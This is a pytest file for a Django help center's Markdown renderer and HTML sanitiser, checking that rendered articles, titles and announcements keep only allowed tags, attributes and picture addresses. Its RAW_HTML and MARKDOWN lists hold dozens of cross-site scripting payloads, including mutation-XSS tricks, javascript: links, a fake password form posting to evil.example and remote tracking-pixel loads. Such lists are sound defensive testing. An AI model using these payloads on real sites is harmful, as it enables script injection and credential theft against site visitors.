"""Whatever a document holds, a reader's browser gets words, links and pictures of ours: nothing that runs, asks or
calls another host. Judged on the parsed result."""

import re

import pytest
from django.urls import reverse
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from helpcenter.actions import announcing, drafting
from helpcenter.content import markdown
from helpcenter.content.markdown import ShownPicture
from helpcenter.content.sanitising import clean_html
from tests.helpcenter.dom import Page, read
from tests.helpcenter.factories import AnnouncementFactory, ArticleFactory, CategoryFactory, publish_text
from tests.helpcenter.samples import examples

# What may be on a page, written down here rather than asked of the product.
TAGS = set(
    re.findall(
        r"\S+",
        """
    a abbr b bdi bdo blockquote br cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img
    ins kbd li mark ol p pre q s small span strong sub summary sup table tbody td th thead tr u ul var
""",
    )
)
ATTRIBUTES = set(
    re.findall(
        r"\S+",
        """
    alt aria-label class decoding dir height href id lang loading rel role scope sizes src srcset start tabindex width
""",
    )
)
OUR_CLASSES = set(
    re.findall(
        r"\S+",
        """
    anc danger ext host n no-picture note notice notice-t scam scroll-x steps tip warning
""",
    )
)

# One line each, so that each can stand in the middle of a sentence.
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a 1x, /_/pictures/b 2x">',
    '<image src="https://evil.example/pixel.gif" onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>Go</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<applet code=x></applet>",
    "<frameset onload=alert(1)>",
    '<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">Go</button>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    '<b style="color:red" onclick=alert(1)>x</b>',
    "<b/onmouseover=alert(1)>x</b>",
    '<b\nonclick="alert(1)">x</b>'.replace("\n", "\t"),
    '<kbd class="notice danger">Pay now</kbd>',
    '<sub id="main">x</sub>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://evil.example/" ping="https://evil.example/p" target=_blank>x</a>',
    '<a href="x" onclick=alert(1)>x</a>',
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<xss style=behavior:url(x.htc)>x</xss>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<slot onslotchange=alert(1)></slot>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=https://evil.example/></portal>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title><svg/onload=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<?x ><img src=x onerror=alert(1)>?>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!doctype x [<!ENTITY a '<img src=x onerror=alert(1)>'>]>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</p><img src=x onerror=alert(1)>",
    "</div></main></body><script>alert(1)</script>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://evil.example/#Intent;scheme=http;end)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[x](https://evil.example/?<script>alert(1)</script>)",
    '[x](#"onclick="alert(1))',
    '[x](fees.md#"onclick="alert(1))',
    '[x](mailto:a@b.example"onclick="alert(1))',
    '[x](https://evil.example/ "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://evil.example/"onclick="alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](pictures/a.png)',
    "![<img src=x onerror=alert(1)>](pictures/a.png)",
    '![x](pictures/a.png "\\" onerror=\\"alert(1)")',
    '![x](pictures/a.png"onerror="alert(1))',
    "![x](pictures/../../evil.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "**<script>**alert(1)**</script>**",
    "[a](fees.md <script>x</script>)",
]  # fmt: skip
PAYLOADS = RAW_HTML + MARKDOWN
NUMBERS = [str(number) for number in range(len(PAYLOADS))]


def known(name):
    return ShownPicture({480: f"pictures/{'a' * 32}-480.webp"}, 480, 270)


def render(text, language="en"):
    return markdown.render(text, language=language, pictures=known).html


def assert_harmless(html):
    found = Page(html)
    for element in found.all():
        assert element.tag in TAGS, f"<{element.tag}>"
        assert set(element.attrs) <= ATTRIBUTES, f"<{element.tag} {element.attrs}>"
        assert set(element.attrs.get("class", "").split()) <= OUR_CLASSES
        assert_address_is_ours_or_plain(element)
    assert clean_html(html) == html, "another parser reads it differently"
    return found


def assert_address_is_ours_or_plain(element):
    href = element.attrs.get("href", "#")
    assert href.startswith(("#", "/_/articles/", "https://", "http://", "mailto:")), href
    for name in ("src", "srcset"):
        for candidate in element.attrs.get(name, "/_/pictures/").split(","):
            assert candidate.strip().startswith("/_/pictures/"), candidate


def assert_next_paragraph_stands_alone(found):
    """Nothing that was begun before it holds it or is inside it."""
    (paragraph,) = [p for p in found.all("p") if p.words == "The next paragraph."]
    assert paragraph.parent is found.root
    assert not paragraph.all()


def test_there_are_enough_payloads_and_each_is_different():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=NUMBERS)
def test_nothing_of_a_payload_survives_in_a_text(payload):
    assert_harmless(render(payload))
    assert_harmless(render(f"Before {payload} after."))
    assert_harmless(render(f"{payload}\n\n{payload}\n{payload}"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=NUMBERS)
def test_the_paragraph_after_a_payload_is_whole_and_stands_alone(payload):
    text = f"Before {payload} after.\n\nThe next paragraph."
    assert_next_paragraph_stands_alone(assert_harmless(render(text)))


@pytest.mark.parametrize("payload", RAW_HTML, ids=NUMBERS[: len(RAW_HTML)])
def test_raw_html_that_a_browser_would_act_on_is_warned_of_by_line(payload):
    result = markdown.render(f"One.\n\nBefore {payload} after.\n\nEnd.", language="en", pictures=known)
    is_text = "&lt;" in result.html  # what CommonMark reads as words is shown as words
    assert is_text or {warned.line for warned in result.warnings} == {3}


CROSSING = [
    "*a <script>b* c</script>",
    "x <style>**a</style> b**",
    "~~a <iframe>b~~ c</iframe>",
    "[a <script>](https://x.example/) b</script> c",
    "x <script>[a</script> b](https://x.example/)",
    "x <script>![a</script> b](pictures/a.png)",
    "![a <script>](pictures/a.png) b</script>",
    "`a <script>` b</script>",
    "*x <b>y* z</b>",
    "<b>x *y</b> z*",
]


@pytest.mark.parametrize("text", CROSSING)
def test_tags_that_cross_markdown_leave_the_next_paragraph_alone(text):
    found = assert_harmless(render(f"{text}\n\nBefore {text} after.\n\nThe next paragraph."))
    assert_next_paragraph_stands_alone(found)


UNCLOSED = re.findall(
    r"\S+",
    """
    a abbr b bdi big blockquote body button caption center code dd del details div dl em embed fieldset figure font
    form frameset h1 h2 head html i iframe ins kbd label legend li listing main map mark math menu nobr noembed
    noframes noscript object ol option p picture plaintext pre q ruby s samp script section select small span strike
    strong style sub summary sup svg table tbody td template textarea th title tr tt u ul video xmp
""",
)
SHAPES = ["<{}>", "</{}>", "<{} class=x>", "<{}", "<{}><{}>", "**<{}>**", "<{}/>"]


@pytest.mark.parametrize("tag", UNCLOSED)
def test_a_tag_without_its_end_does_not_reach_into_the_next_paragraph(tag):
    for shape in SHAPES:
        text = f"Before {shape.format(tag, tag)} after.\n\nThe next paragraph."
        assert_next_paragraph_stands_alone(assert_harmless(render(text)))


@pytest.mark.parametrize(
    "opening", ["<!--", "<!-- x -", "<!", "<?php", "<![CDATA[", "<!DOCTYPE", "</", "<", "<b title='"]
)
def test_an_unfinished_construct_does_not_reach_into_the_next_paragraph(opening):
    found = assert_harmless(render(f"Before {opening} after.\n\nThe next paragraph."))
    assert [p.words for p in found.all("p")][-1] == "The next paragraph."


@pytest.mark.parametrize("tag", ["b", "s", "div", "script", "li", "ol", "table"])
def test_an_unclosed_tag_stays_inside_its_step_callout_item_and_cell(tag):
    text = f"## A {{#a}}\n\n### B {{step:b}}\n\nx <{tag}> y\n\n:::note\nx <{tag}>\n:::\n\n- x <{tag}>\n- y\n\n"
    found = assert_harmless(render(f"{text}| x <{tag}> | y |\n|---|---|\n| 1 | 2 |\n\n### C {{step:c}}\n\nThe end."))
    assert found.one("li", id="step-c").words == "C# The end."
    assert found.one("li", id="step-c").parent.parent is found.root
    assert not found.one("li", id="step-c").all(tag)


PLACES = {
    "heading": "## {}",
    "keyed heading": "## {} {{#key}}",
    "key": "## Heading {{#{}}}",
    "step": "### {} {{step:open}}",
    "list": "- {}",
    "quotation": "> {}",
    "table": "| a |\n|---|\n| {} |",
    "title of a callout": ":::note {}\ntext\n:::",
    "callout": ":::warning\n{}\n:::",
    "scam example": ":::scam-example {}\n{}\n:::",
    "words of a link": "[{}](https://x.example/)",
    "target of a link": "[words]({})",
    "target in angle brackets": "[words](<{}>)",
    "title of a link": '[words](fees.md "{}")',
    "anchor of a link": "[words](fees.md#{})",
    "alternative text": "![{}](pictures/a.png)",
    "caption": '![words](pictures/a.png "{}")',
    "file of a picture": "![words](<pictures/{}>)",
    "address of a picture": "![words](<{}>)",
    "autolink": "<{}>",
    "host": "[words](https://{}/)",
    "reference": "[words][r]\n\n[r]: <{}> 'title'",
    "code": "`{}`",
    "fence": "```{}\n{}\n```",
    "emphasis": "**{}**",
    "harmless tag": "<b>{}</b>",
    "block of HTML": "<div>\n{}\n</div>",
    "comment": "<!-- {} -->",
    "crossing tags": "*<b>{}*</b>",
}


@pytest.mark.parametrize("place", PLACES)
def test_nothing_of_a_payload_survives_anywhere_in_the_dialect(place):
    for payload in PAYLOADS:
        text = PLACES[place].replace("{{", "{").replace("}}", "}").replace("{}", payload)
        try:
            assert_harmless(render(text, "ar"))
        except Exception as error:
            raise AssertionError(f"{text!r}") from error


FRAGMENTS = st.sampled_from(
    [
        *PAYLOADS,
        "<b>",
        "</b>",
        "<script>",
        "</script>",
        "<div>",
        "</div>",
        "<!--",
        "-->",
        "*",
        "**",
        "`",
        "~~",
        "[",
        "]",
    ]
    + [
        "](fees.md)",
        "](https://x.example)",
        "![",
        "](pictures/a.png)",
        "\n",
        "\n\n",
        "\n- ",
        "\n> ",
        "\n\n## ",
        "\n    ",
    ]
    + ["\n:::note\n", "\n:::\n", "\n:::scam-example\n", "\n| a |\n|---|\n| ", " {step:a}\n", " {#b}\n", "words", "清算"]
)


@examples(250)
@given(st.lists(FRAGMENTS, max_size=12))
def test_nothing_survives_however_constructs_are_broken_and_nested(fragments):
    assert_harmless(render("".join(fragments)))


@examples(150)
@given(st.text("<>/=\"'`*_[]()!&#;:{}\\ \n-~|ab\t\x00\u2028é清", max_size=60))
def test_any_string_is_rendered_and_harmless(text):
    assert_harmless(render(text))


@pytest.mark.parametrize("deep", ["<b>", "<sub>", "> ", "[", "*", "(", "<div>\n", "![", "a`", "&", "<"])
def test_deep_nesting_does_not_reach_into_the_next_paragraph(deep):
    assert render(deep * 3000 + "words\n\nThe next paragraph.").count("<p>The next paragraph.</p>") == 1


# --- Titles, summaries and what stands around the text --------------------------------------------------------------

TITLES = [payload[:200] for payload in PAYLOADS if len(payload) <= 110][::6]


def active(page):
    """What runs or submits on a page: scripts, event handlers, frames, forms, foreign addresses."""
    tags = [e for e in page.all() if e.tag in {"script", "iframe", "object", "embed", "base", "form", "style"}]
    handlers = [name for e in page.all() for name in e.attrs if name.startswith("on") or name in ("style", "srcdoc")]
    odd = [e["href"] for e in page.all(href=True) if e["href"].lower().startswith(("javascript", "data", "vbscript"))]
    return [(e.tag, sorted(e.attrs)) for e in tags], handlers, odd


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "ar"])
def test_titles_summaries_and_names_are_words_on_every_page(client, language):
    category = CategoryFactory(name_en="Calm", name_ar="هادئ")
    article = ArticleFactory(slug="calm", category=category, is_promoted=True)
    publish_text(article, language, drafting.Text("Calm", "Calm.", "Calm."))
    AnnouncementFactory(slug="calm", title_en="Calm", is_band=True)
    paths = [f"/{language}/", f"/{language}/categories/{category.slug}/", f"/{language}/articles/calm/"]
    before = [active(read(client, path)) for path in paths]
    for payload in TITLES:
        publish_text(article, language, drafting.Text(payload, f"`{payload}`", payload))
        type(category).objects.update(**{f"name_{language}": payload})
        assert [active(read(client, path)) for path in paths] == before, payload


@pytest.mark.django_db
def test_a_title_is_shown_as_it_was_written(client):
    publish_text(ArticleFactory(slug="odd"), "en", drafting.Text("<script>alert(1)</script> & <b>", "Text."))
    page = read(client, "/en/articles/odd/")
    assert page.one("h1").words == "<script>alert(1)</script> & <b>"
    assert page.one("title").words.startswith("<script>alert(1)</script> & <b>")


@pytest.mark.django_db
def test_a_summary_made_from_code_is_not_markup_again(client):
    article = ArticleFactory(slug="odd", is_promoted=True, texts={"en": "Never type `<script>alert(1)</script>` here."})
    for path in ("/en/", f"/en/categories/{article.category.slug}/", "/en/articles/odd/"):
        assert not [e for e in read(client, path).scripts if "alert" in e.words]


@pytest.mark.django_db
def test_announcements_are_sanitised_like_articles(client):
    body = "\n\n".join(f"Before {payload} after." for payload in PAYLOADS)
    text = announcing.AnnouncementText("News", "Short.", body)
    saved = announcing.save_announcement(AnnouncementFactory.build(slug="odd"), {"en": text}, by=None)
    assert_harmless(saved.html_en)


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "zh-hans", "ja", "ko", "ar"])
def test_a_published_page_holds_no_more_than_its_frame_and_harmless_text(client, language):
    body = "\n\n".join(f"Before {payload} after." for payload in PAYLOADS)
    publish_text(ArticleFactory(slug="odd"), language, body)
    with override(language):
        page = read(client, reverse("helpcenter:article", args=["odd"]))
    content = page.one(data_content=True)
    assert {e.tag for e in content.below()} <= TAGS
    assert not [e for e in content.all("img") if not e["src"].startswith(f"/{language}/pictures/")]


@pytest.mark.parametrize(
    ("address", "is_kept"),
    [
        ("/_/pictures/a.webp", True),
        ("/zh-hans/pictures/a.webp", True),
        ("//pictures/a.webp", False),
        ("//evil.example/pictures/a.webp", False),
        ("/en/articles/pictures/a.webp", False),
    ],
)
def test_pictures_come_from_the_folder_of_a_language(address, is_kept):
    assert (address in clean_html(f'<img src="{address}" alt="x">')) is is_kept
